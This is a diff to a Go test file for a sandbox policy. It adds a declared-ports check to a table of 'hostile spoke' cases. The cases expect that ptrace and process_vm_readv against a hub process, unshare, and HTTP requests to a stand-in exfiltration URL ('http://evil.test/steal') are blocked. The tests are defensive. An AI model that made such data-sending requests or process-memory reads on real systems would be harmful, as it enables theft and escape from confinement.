@@ -157,11 +157,12 @@ func TestHostileSpokes(t *testing.T) {
 		{"ptrace the hub", Policy{Args: []string{"ptrace", hub}}, killed("forbidden system call"), ""},
 		{"process_vm_readv the hub", Policy{Args: []string{"vmread", hub}}, killed("forbidden system call"), ""},
 		{"unshare", Policy{Args: []string{"unshare"}}, killed("forbidden system call"), ""},
-		{"http to an undeclared domain", Policy{App: "weather", Domains: []string{"example.com"}, Args: []string{"http", "http://evil.test/steal"}}, denied("403", "evil.test"), "weather evil.test false"},
+		{"http to an undeclared domain", Policy{App: "weather", Domains: []string{"example.com"}, Ports: []int{80}, Args: []string{"http", "http://evil.test/steal"}}, denied("403", "evil.test"), "weather evil.test:80 false"},
+		{"http to an undeclared port", Policy{App: "weather", Domains: []string{"example.com"}, Args: []string{"http", "http://api.example.com/forecast"}}, denied("403", `port 80 refused`), "weather api.example.com:80 false"},
 		{"https to an undeclared domain", Policy{App: "weather", Domains: []string{"example.com"}, Args: []string{"http", "https://evil.test/steal"}}, denied("evil.test", "refused"), "weather evil.test false"},
 		{"http without declared domains", Policy{Args: []string{"http", "http://api.example.com/"}}, denied("no network access"), ""},
 		{"benign: private /tmp", Policy{Args: []string{"tmp"}}, worked("spoke"), ""},
-		{"benign: http to a declared domain", Policy{App: "weather", Domains: []string{"example.com"}, Args: []string{"http", "http://api.example.com/forecast"}}, worked("hello from api.example.com"), "weather api.example.com true"},
+		{"benign: http to a declared domain", Policy{App: "weather", Domains: []string{"example.com"}, Ports: []int{80}, Args: []string{"http", "http://api.example.com/forecast"}}, worked("hello from api.example.com"), "weather api.example.com:80 true"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
